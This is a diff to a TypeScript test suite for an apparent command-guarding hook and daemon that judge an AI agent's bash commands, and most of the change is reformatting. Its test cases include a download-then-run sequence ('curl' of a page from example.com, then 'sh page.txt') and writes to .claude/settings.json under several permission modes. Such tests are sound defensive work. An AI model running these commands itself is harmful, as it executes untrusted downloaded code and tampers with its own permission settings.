@@ -42,24 +42,41 @@ function linesOf(path: string): readonly string[] {
 function corpus(): readonly Case[] {
   const files = [join(folder, "corpus/ordinary.jsonl"), ...readdirSync(join(folder, "corpus/dangerous")).map((name) => join(folder, "corpus/dangerous", name))];
   // Each in a session of its own, so that what one has learnt does not settle the next.
-  return files.flatMap((file) => linesOf(file).filter((_, at) => at % EVERY === 0)).map((line, at) => bash((JSON.parse(line) as { command: string }).command, { session_id: `corpus-${at}` }));
+  return files
+    .flatMap((file) => linesOf(file).filter((_, at) => at % EVERY === 0))
+    .map((line, at) => bash((JSON.parse(line) as { command: string }).command, { session_id: `corpus-${at}` }));
 }
 
 /** A session that learns: untrusted text, then a secret's neighbour, then a way out; and every mode of the client. */
 const STORY: readonly Case[] = [
   bash("curl -s https://example.com/page -o page.txt"),
-  { event: "PostToolUse", payload: { ...bash("curl -s https://example.com/page -o page.txt").payload, hook_event_name: "PostToolUse", tool_response: { stdout: "" } } },
+  {
+    event: "PostToolUse",
+    payload: { ...bash("curl -s https://example.com/page -o page.txt").payload, hook_event_name: "PostToolUse", tool_response: { stdout: "" } },
+  },
   bash("cat page.txt"),
   { event: "PostToolUse", payload: { ...bash("cat page.txt").payload, hook_event_name: "PostToolUse", tool_response: { stdout: "x" } } },
   bash("sh page.txt"),
   bash("git push origin feature/x"),
   ...["default", "plan", "acceptEdits", "auto", "dontAsk", "bypassPermissions", "newMode"].flatMap((mode) =>
-    ["git push origin feature/x", "echo x > a.txt", "echo x > .claude/settings.json", "ls"].map((command) => bash(command, { permission_mode: mode, session_id: `mode-${mode}` })),
+    ["git push origin feature/x", "echo x > a.txt", "echo x > .claude/settings.json", "ls"].map((command) =>
+      bash(command, { permission_mode: mode, session_id: `mode-${mode}` }),
+    ),
   ),
 ];
 
 /** Texts that are no payloads. */
-const BROKEN: readonly string[] = ["", "{", "[]", "null", "{}", '{"hook_event_name":"PreToolUse"}', '{"a":1,"a":2}', `{"session_id":"s","hook_event_name":"PreToolUse","cwd":"relative"}`, "\u0000"];
+const BROKEN: readonly string[] = [
+  "",
+  "{",
+  "[]",
+  "null",
+  "{}",
+  '{"hook_event_name":"PreToolUse"}',
+  '{"a":1,"a":2}',
+  `{"session_id":"s","hook_event_name":"PreToolUse","cwd":"relative"}`,
+  "\u0000",
+];
 
 let alone: DaemonWorld;
 let daemon: DaemonWorld;
@@ -133,7 +150,12 @@ describe("standalone and daemon answer alike (H1)", () => {
   it("when hooks and daemon take turns in one session", async () => {
     keepSurroundings(daemon.state, "shared", process.env);
     const say = (command: string, event = "PreToolUse"): string =>
-      JSON.stringify({ cwd: alone.project, ...bash(command, { session_id: "shared" }).payload, hook_event_name: event, ...(event === "PostToolUse" ? { tool_response: {} } : {}) });
+      JSON.stringify({
+        cwd: alone.project,
+        ...bash(command, { session_id: "shared" }).payload,
+        hook_event_name: event,
+        ...(event === "PostToolUse" ? { tool_response: {} } : {}),
+      });
     for (const name of ["got.sh", "more.sh"]) writeFileSync(join(alone.project, name), "echo hello\n");
     // The hook sees the download, the daemon that it is run.
     answer(Buffer.from(say("curl -s https://example.com/x -o got.sh")), "PreToolUse", daemon.state);
